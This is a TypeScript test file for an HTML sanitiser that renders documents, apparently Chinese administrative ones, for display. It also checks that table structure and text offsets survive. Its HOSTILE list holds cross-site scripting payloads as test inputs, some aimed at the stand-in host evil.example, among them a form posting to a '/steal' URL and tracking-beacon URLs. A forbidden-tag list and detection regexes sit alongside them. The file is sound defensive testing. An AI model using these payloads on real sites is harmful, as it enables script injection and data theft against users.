import { describe, expect, it } from 'vitest'
import { parseHtml, type HtmlElement } from './html-tree'
import { htmlToDocument } from './html'

function display(html: string): string {
  return htmlToDocument(html).value!.displayHtml!
}

/** Every element and attribute of the display HTML, re-parsed the way a browser would see them. */
function inventory(html: string): { tags: Set<string>; attributes: [string, string][] } {
  const tags = new Set<string>()
  const attributes: [string, string][] = []
  const stack: HtmlElement[] = [parseHtml(html)]
  while (stack.length) {
    const el = stack.pop()!
    tags.add(el.name)
    for (const [k, v] of Object.entries(el.attribs)) attributes.push([k, v])
    for (const child of el.children) if (child.type === 'tag') stack.push(child)
  }
  return { tags, attributes }
}

const ALLOWED_ATTRIBUTES = /^(colspan|rowspan|border|align|valign|width|height|cellspacing|cellpadding|class|data-rd-(start|end|table|row|col))$/
const FORBIDDEN_TAGS = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'link',
  'meta',
  'base',
  'img',
  'svg',
  'math',
  'a',
  'frame',
  'textarea',
  'select',
  'video',
  'audio',
  'source',
  'noscript',
  'template'
]

const HOSTILE: [string, string][] = [
  ['script element', '<p>正文</p><script>alert(1)</script>'],
  ['script split by comments', '<scr<!-- -->ipt>alert(1)</script><p>正文</p>'],
  ['img onerror', '<p>正文<img src=x onerror="alert(1)"></p>'],
  [
    'event handlers everywhere',
    '<p onclick="alert(1)" onmouseover=alert(2)>正文</p><table onload="x"><tr><td onfocus="y" colspan="2">1</td></tr><tr><td>2</td><td>3</td></tr></table>'
  ],
  ['javascript: link', '<p><a href="javascript:alert(1)">点我</a></p>'],
  ['data: link and vbscript', '<p><a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:msgbox">y</a></p>'],
  ['<base> hijack', '<base href="https://evil.example/"><p><a href="/x">相对链接</a></p>'],
  ['<meta refresh>', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>正文</p>'],
  ['form posting elsewhere', '<form action="https://evil.example/steal" method="post"><input name="p" value="secret"><button>提交</button><p>正文</p></form>'],
  ['css url() in style attribute', '<p style="background:url(https://evil.example/track.gif)">正文</p>'],
  ['css url() and expression in style element', '<style>body{background:url(https://evil.example/x)} p{width:expression(alert(1))}</style><p>正文</p>'],
  ['svg with script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><p>正文</p>'],
  ['svg onload', '<svg onload="alert(1)"></svg><p>正文</p>'],
  ['iframe / object / embed', '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><p>正文</p>'],
  ['srcset and external image', '<p>正文<img srcset="https://evil.example/a.png 2x" src="https://evil.example/a.png"></p>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>正文</p>'],
  [
    'attribute breaking out of quotes',
    '<table><tr><td width="1&quot; onmouseover=&quot;alert(1)">1</td><td align="center&quot;><script>alert(1)</script>">2</td></tr></table>'
  ],
  ['entity-encoded script text stays text', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
  ['mixed-case tags', '<SCRIPT>alert(1)</SCRIPT><P ONCLICK="x">正文</P><IMG SRC=x ONERROR=alert(1)>'],
  ['unclosed script swallows the rest', '<p>正文</p><script>alert(1)'],
  ['background attribute', '<table background="https://evil.example/bg.png"><tr><td background="x.png">1</td><td>2</td></tr></table>']
]

describe('display HTML sanitiser', () => {
  it.each(HOSTILE)('%s', (_, html) => {
    const out = display(html)
    const { tags, attributes } = inventory(out)
    for (const tag of FORBIDDEN_TAGS) expect(tags.has(tag), `<${tag}> in ${out}`).toBe(false)
    for (const [name, value] of attributes) {
      expect(name, out).toMatch(ALLOWED_ATTRIBUTES)
      expect(value, out).not.toMatch(/javascript:|url\(|<|>|"/i)
    }
    expect(out).not.toMatch(/<script|\bon[a-z]+\s*=|\bhref\s*=|\bsrc\s*=|srcset|url\(|<style|<meta|<base|<form/i)
  })

  it('keeps the table structure a reviewer needs: spans, border, align; and offsets on cells and paragraphs', () => {
    const doc = htmlToDocument(
      '<p align="center" style="color:red">标题</p><table border="1" style="x"><tr><td colspan="2" rowspan="1" align="center">申请人情况</td></tr><tr><td>自然人</td><td>5</td></tr></table>'
    ).value!
    const out = doc.displayHtml!
    expect(out).toContain('<p align="center" data-rd-start="0" data-rd-end="2">标题</p>')
    expect(out).toContain('<table border="1"')
    expect(out).toContain('<td align="center" colspan="2" data-rd-start="3" data-rd-end="8" data-rd-table="0" data-rd-row="0" data-rd-col="0">申请人情况</td>')
    expect(out).toContain('data-rd-row="1" data-rd-col="1">5</td>')
    expect(doc.text.slice(3, 8)).toBe('申请人情况')
  })

  it('every data-rd offset pair in the display HTML slices real text', () => {
    const doc = htmlToDocument(
      '<div><p>一、总体情况</p><p>第一行<br>第二行</p><table><tr><td>规章</td><td>&nbsp;</td></tr><tr><td rowspan="2">a</td><td>b</td></tr><tr><td>c</td></tr></table></div>'
    ).value!
    const { attributes } = inventory(doc.displayHtml!)
    const starts = attributes.filter(([k]) => k === 'data-rd-start').map(([, v]) => Number(v))
    const ends = attributes.filter(([k]) => k === 'data-rd-end').map(([, v]) => Number(v))
    expect(starts.length).toBe(ends.length)
    for (let i = 0; i < starts.length; i++) {
      expect(starts[i]).toBeLessThanOrEqual(ends[i])
      expect(ends[i]).toBeLessThanOrEqual(doc.text.length)
    }
    expect(doc.text).toBe('一、总体情况\n第一行\n第二行\n规章\t\na\tb\nc')
  })
})
